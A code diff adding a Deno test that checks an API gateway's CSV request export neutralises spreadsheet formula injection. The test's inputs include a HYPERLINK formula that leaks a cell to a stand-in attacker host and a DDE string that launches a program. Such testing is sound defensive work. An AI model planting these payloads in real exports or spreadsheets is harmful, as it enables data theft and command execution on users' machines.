@@ -3,6 +3,7 @@
 import { assertEquals, assertOk } from "../../helpers/assert.ts";
 import { ADMIN_TOKEN, postJson, serverTest } from "../../helpers/gateway.ts";
 import { setupChat } from "../../helpers/text_setup.ts";
+import { setupImages } from "../../helpers/image_setup.ts";
 
 const RECORDS = 2_000;
 const ODD_MODEL = 'we"ird,model\nname';
@@ -125,5 +126,49 @@ Deno.test(
     assertEquals(jsonl.text, "");
     const bad = await s.gw.admin("GET", "/admin/requests/export?format=xlsx");
     assertEquals([bad.status, bad.body.error.param], [400, "format"]);
+  },
+);
+
+Deno.test(
+  "export: client-chosen text that a spreadsheet would run as a formula is exported as text; numbers stay numbers",
+  serverTest,
+  async () => {
+    await using s = await setupImages("openai-images");
+    const formulaField = '=HYPERLINK("http://evil.example/?leak="&A1)';
+    const image = await postJson(s.gw, "/v1/images/generations", s.key, {
+      prompt: "a kite",
+      [formulaField]: 1,
+    });
+    assertEquals(image.status, 200);
+    await image.body?.cancel();
+    const models = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\t=1+1"];
+    for (const model of models) {
+      const response = await postJson(s.gw, "/v1/chat/completions", s.key, {
+        model,
+        messages: [{ role: "user", content: "hi" }],
+      });
+      await response.body?.cancel();
+    }
+    await s.gw.settle();
+
+    const csv = await exported(s.gw.url, "format=csv&order=asc");
+    const [header, ...rows] = parseCsv(csv.text);
+    const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
+    const dangerous = /^[=+\-@\t\r]/;
+    for (const row of rows) {
+      for (const [index, cell] of row.entries()) {
+        const numeric = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/.test(cell);
+        assertOk(!dangerous.test(cell) || numeric, `${header[index]} opens as a formula: ${cell}`);
+      }
+    }
+    assertOk(
+      column("ignored_fields").includes(`'${formulaField}`),
+      column("ignored_fields").join(" | "),
+    );
+    assertOk(csv.text.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1)"`));
+    for (const model of models) assertOk(column("model").includes(`'${model}`), model);
+    // The JSON Lines export is data, not a sheet: the names stay as they were sent.
+    const jsonl = await exported(s.gw.url, "format=jsonl&order=asc");
+    assertOk(jsonl.text.includes(JSON.stringify(formulaField)));
   },
 );
